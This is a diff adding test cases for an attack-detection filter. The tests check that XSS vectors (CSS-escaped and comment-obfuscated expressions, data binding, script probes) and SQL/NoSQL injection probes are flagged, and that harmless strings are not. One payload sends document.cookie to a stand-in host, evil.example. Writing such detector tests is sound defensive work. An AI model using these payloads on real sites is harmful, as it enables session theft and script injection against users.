@@ -486,3 +486,45 @@ describe("markup an XML parser assembles, and XSLT that calls PHP", () => {
     expect(clean("import the implementation from <module>? see chapter 3")).toBe(true);
   });
 });
+
+describe("XSS hidden by CSS escapes and comments, data binding, stylesheet links", () => {
+  it("finds the vector once the CSS is resolved", () => {
+    const attacks: StaticArray<string> = ["<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
+      "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
+      "<// style=x:expression\\28write(1)\\29>", "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
+      "<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>", "<LINK REL=\"stylesheet\" HREF=\"http://ha.ckers.org/xss.css\">", "<link / asdf href  /= "];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
+  });
+  it("leaves styles and paths that hide nothing alone", () => {
+    const benign: StaticArray<string> = ["<div style=\"color:red /* brand */\">Hi</div>", "C:\\styles\\main.css", "the <link> element is described below",
+      "style guide: use \\n for newlines"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
+  });
+});
+
+describe("script calls standing alone and tagged templates (xss)", () => {
+  it("flags the probes and payloads", () => {
+    const attacks: StaticArray<string> = ["alert(1)", "prompt(1)", "confirm()", "alert`1`", "alert(document.cookie)", "window.alert(1)", "eval(atob('YWxlcnQoMSk='))",
+      "setTimeout(\"alert(1)\")", "fetch('//evil.example/?c='+document.cookie)", "[].sort.call`${alert}1337`", "Reflect.apply.call`${navigation.navigate}${navigation}${[name]}`",
+      "alert(/xss/)", "eval(String.fromCharCode(97,108,101,114,116,40,49,41))"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
+  });
+  it("leaves prose, ordinary calls and markdown names alone", () => {
+    const benign: StaticArray<string> = ["Set an alert (daily) please", "please confirm your email", "use `fn.call` to invoke it", "the `alert` function", "print(\"hello\")",
+      "fetch(\"/api/users\")", "window.print()", "setInterval(code, 1)", "res.setTimeout(10000)", "findalert(1)", "alert (2 items)"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
+  });
+});
+
+describe("catalog probes and NoSQL operators (sqli)", () => {
+  it("flags a catalog or database call alone, and MongoDB operators where a value belongs", () => {
+    const attacks: StaticArray<string> = ["database()", "DaTaBasE(", "db_name(", "@@version", "pg_catalog.pg_tables", "current_user( ", "$ne", "u_id[$ne]=2", "[$regex]=.*",
+      "{\"$where\": \"sleep(100)\"}", "password[$gt]=", "'$nin' : [1]"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
+  });
+  it("leaves prose about catalogs, shell and PHP variables, and prices alone", () => {
+    const benign: StaticArray<string> = ["the information_schema database lists tables", "information_schema database", "$text = \"hi\"", "costs $in total", "echo $where",
+      "$100 off", "{\"$schema\": \"x\"}", "my database (postgres) is slow"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
+  });
+});
